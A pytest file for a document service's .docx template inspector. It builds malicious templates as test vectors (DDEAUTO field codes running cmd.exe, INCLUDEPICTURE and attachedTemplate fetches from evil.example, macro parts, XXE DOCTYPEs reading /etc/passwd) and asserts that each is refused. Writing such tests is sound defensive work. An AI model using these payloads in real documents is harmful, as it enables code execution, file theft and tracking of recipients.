"""Uploaded .docx templates checked part by part (threat T15): fetching or executing field
codes, external relationships, attachedTemplate, macros, parts of types not allowed, and a
DOCTYPE in any part whatever its name or encoding — each refused naming the part."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest

from docgen.config import Settings
from docgen.services import DocumentService
from docgen.template_store import TemplateRejected
from docgen.template_store.archive import inspect_docx
from tests.support import ROOT, load_fixture

BUILTIN = ROOT / "docs" / "examples" / "demand_letter.docx"  # a firm template to start from
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _docx(
    changes: dict[str, bytes | None] | None = None, edit: dict[str, tuple[str, str]] | None = None
) -> bytes:
    """The built-in template with parts replaced, added (bytes), removed (None) or edited
    (one ``old`` → ``new`` replacement in the part's text)."""
    changes, edit = dict(changes or {}), edit or {}
    out = io.BytesIO()
    with zipfile.ZipFile(BUILTIN) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in changes:
                data = changes.pop(info.filename)
                if data is None:
                    continue
            else:
                data = src.read(info)
            if info.filename in edit:
                old, new = edit[info.filename]
                text = data.decode("utf-8")
                assert old in text, (info.filename, old)
                data = text.replace(old, new, 1).encode("utf-8")
            dst.writestr(info.filename, data)
        for name, data in changes.items():
            if data is not None:
                dst.writestr(name, data)
    return out.getvalue()


def _run(inner: str) -> str:
    return f"<w:r>{inner}</w:r>"


def _field(*instructions: str) -> str:
    """One complex field whose instruction is split over several runs."""
    parts = [_run('<w:fldChar w:fldCharType="begin"/>')]
    parts += [_run(f'<w:instrText xml:space="preserve">{i}</w:instrText>') for i in instructions]
    parts += [_run('<w:fldChar w:fldCharType="separate"/>'), _run("<w:t>1</w:t>")]
    parts += [_run('<w:fldChar w:fldCharType="end"/>')]
    return "".join(parts)


def _with_paragraph(xml: str) -> bytes:
    return _docx(edit={"word/document.xml": ("<w:body>", f"<w:body><w:p>{xml}</w:p>")})


def _add_relationship(rels: str, rel_type: str, target: str, external: bool = True) -> tuple:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="rIdX9" Type="{rel_type}" Target="{target}"{mode}/>'
    return rels, ("</Relationships>", rel + "</Relationships>")


def _content_type(extension_or_part: str, content_type: str) -> tuple[str, str]:
    if extension_or_part.startswith("/"):
        entry = f'<Override PartName="{extension_or_part}" ContentType="{content_type}"/>'
    else:
        entry = f'<Default Extension="{extension_or_part}" ContentType="{content_type}"/>'
    return ("</Types>", entry + "</Types>")


def _doc_rel(rel_type: str, target: str, external: bool = True) -> dict:
    name, change = _add_relationship("word/_rels/document.xml.rels", rel_type, target, external)
    return {name: change}


QUOTE_DDE = (
    _run('<w:fldChar w:fldCharType="begin"/>')
    + _field("QUOTE 68 68 69 65 85 84 79")
    + _run(
        '<w:instrText xml:space="preserve"> "C:\\\\Windows\\\\system32\\\\cmd.exe" </w:instrText>'
    )
    + _run('<w:fldChar w:fldCharType="end"/>')
)
DOCTYPE_MAIN = (
    b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    + f"<w:document {W_NS}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body>".encode()
    + b"</w:document>"
)


def _renamed_main(data: bytes) -> bytes:
    """The main part moved to word/main.dat (content type and relationship follow it)."""
    return _docx(
        {"word/document.xml": None, "word/main.dat": data},
        edit={
            "[Content_Types].xml": _content_type("/word/main.dat", MAIN_TYPE),
            "_rels/.rels": ('Target="word/document.xml"', 'Target="word/main.dat"'),
        },
    )


SETTINGS_TEMPLATE = {
    "word/settings.xml": (
        "<w:zoom ",
        f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdX9"/><w:zoom ',
    ),
    **_doc_rel(R_NS + "/attachedTemplate", "http://evil.example/t.dotm"),
}

VECTORS = {
    "DDEAUTO in instrText": (
        lambda: _with_paragraph(_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
        "docx_field_code",
        "域代码 DDEAUTO（见 word/document.xml）",
    ),
    "DDE split across runs": (
        lambda: _with_paragraph(_field(" D", "DE c:\\\\x\\\\cmd.exe", ' "/c calc"')),
        "docx_field_code",
        "域代码 DDE（见 word/document.xml）",
    ),
    "INCLUDEPICTURE in fldSimple": (
        lambda: _with_paragraph(
            '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/p.png&quot; \\d">'
            "<w:r><w:t>x</w:t></w:r></w:fldSimple>"
        ),
        "docx_field_code",
        "域代码 INCLUDEPICTURE（见 word/document.xml）",
    ),
    "includetext split, lower case": (
        lambda: _with_paragraph(_field(" include", "text ", '"\\\\\\\\evil\\\\share\\\\x.docx"')),
        "docx_field_code",
        "域代码 INCLUDETEXT（见 word/document.xml）",
    ),
    "DDE spelt by a nested QUOTE field": (
        lambda: _with_paragraph(QUOTE_DDE),
        "docx_field_code",
        "嵌套域拼出类型的域代码（见 word/document.xml）",
    ),
    "external attachedTemplate": (
        lambda: _docx(edit=SETTINGS_TEMPLATE),
        "docx_attached_template",
        "外部模板（attachedTemplate → http://evil.example/t.dotm",
    ),
    "externally linked image": (
        lambda: _docx(edit=_doc_rel(R_NS + "/image", "http://evil.example/track.png")),
        "docx_external_target",
        "外部目标 http://evil.example/track.png（关系类型 image，见 word/_rels/document.xml.rels）",
    ),
    "hyperlink": (
        lambda: _docx(edit=_doc_rel(R_NS + "/hyperlink", "https://evil.example/")),
        "docx_external_target",
        "外部目标 https://evil.example/",
    ),
    "vbaProject": (
        lambda: _docx(
            {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"},
            edit={
                "[Content_Types].xml": _content_type("bin", "application/vnd.ms-office.vbaProject"),
                **_doc_rel(
                    "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                    "vbaProject.bin",
                    external=False,
                ),
            },
        ),
        "docx_macro",
        "模板含有宏或嵌入的可执行内容（部件 word/vbaProject.bin",
    ),
    "embedded OLE object": (
        lambda: _docx(
            {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 ole"},
            edit={
                "[Content_Types].xml": _content_type(
                    "bin", "application/vnd.openxmlformats-officedocument.oleObject"
                )
            },
        ),
        "docx_macro",
        "部件 word/embeddings/oleObject1.bin",
    ),
    "altChunk (imported HTML)": (
        lambda: _docx(
            {"word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n<img src=http://evil/>"},
            edit={
                "[Content_Types].xml": _content_type("mht", "message/rfc822"),
                **_doc_rel(R_NS + "/aFChunk", "afchunk.mht", external=False),
            },
        ),
        "docx_part_type",
        "不允许的部件类型：word/afchunk.mht（message/rfc822）",
    ),
    "main part renamed word/main.dat with a DOCTYPE": (
        lambda: _renamed_main(DOCTYPE_MAIN),
        "xml_doctype",
        "word/main.dat 含有 DOCTYPE/实体声明",
    ),
    "DOCTYPE in UTF-16 in word/main.dat": (
        lambda: _renamed_main(DOCTYPE_MAIN.replace(b"UTF-8", b"UTF-16").decode().encode("utf-16")),
        "xml_doctype",
        "word/main.dat 含有 DOCTYPE/实体声明",
    ),
    "DOCTYPE hidden in UTF-7": (
        lambda: _renamed_main(
            b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE d +AFs-+AF0-+AD4-'
            + f"<w:document {W_NS}/>".encode()
        ),
        "xml_encoding",
        "word/main.dat 声明了不常见的编码（UTF-7）",
    ),
}


@pytest.mark.parametrize("vector", VECTORS, ids=str)
def test_each_vector_is_refused_naming_the_part(vector):
    make, code, words = VECTORS[vector]
    problems = inspect_docx(make())
    matching = [p for p in problems if p.code == code]
    assert any(words in p.message for p in matching), problems
    assert all(p.loc == ("file",) and p.severity == "error" for p in matching)


def test_the_built_in_templates_with_page_fields_pass():
    paths = [*sorted((ROOT / "templates").glob("*/*.docx")), BUILTIN]
    for path in paths:
        assert inspect_docx(path.read_bytes()) == [], path
    # what the built-in layouts write (page numbers as PAGE / NUMPAGES fields) passes too
    letter = DocumentService(Settings(register_documents=False)).render(
        "demand_letter", load_fixture("demand_letter", "valid", "person_debtor"), "docx"
    )
    package = zipfile.ZipFile(io.BytesIO(letter.content))
    assert any(b"NUMPAGES" in package.read(n) for n in package.namelist() if n.startswith("word/"))
    assert inspect_docx(letter.content) == []
    harmless = _with_paragraph(_field(" PA", "GE ") + _field(" HYPERLINK \\l ", "top "))
    assert inspect_docx(harmless) == []


def test_a_field_code_built_from_case_data_is_refused():
    problems = inspect_docx(_with_paragraph(_field(" {{ creditor.name }} ")))
    assert [p.code for p in problems] == ["docx_field_code"]
    assert "域代码中含有模板变量" in problems[0].message


@pytest.mark.parametrize(
    "vector", ["DDEAUTO in instrText", "external attachedTemplate", "vbaProject"]
)
def test_an_upload_is_refused_and_nothing_stored(tmp_path: Path, vector):
    service = DocumentService(Settings(data_dir=tmp_path))
    make, code, _words = VECTORS[vector]
    with pytest.raises(TemplateRejected) as caught:
        service.upload_template("demand_letter", make())
    assert code in [p.code for p in caught.value.problems]
    assert all(re.search(r"[\u4e00-\u9fff]", p.message) for p in caught.value.problems)
    assert service.templates.versions("demand_letter") == []
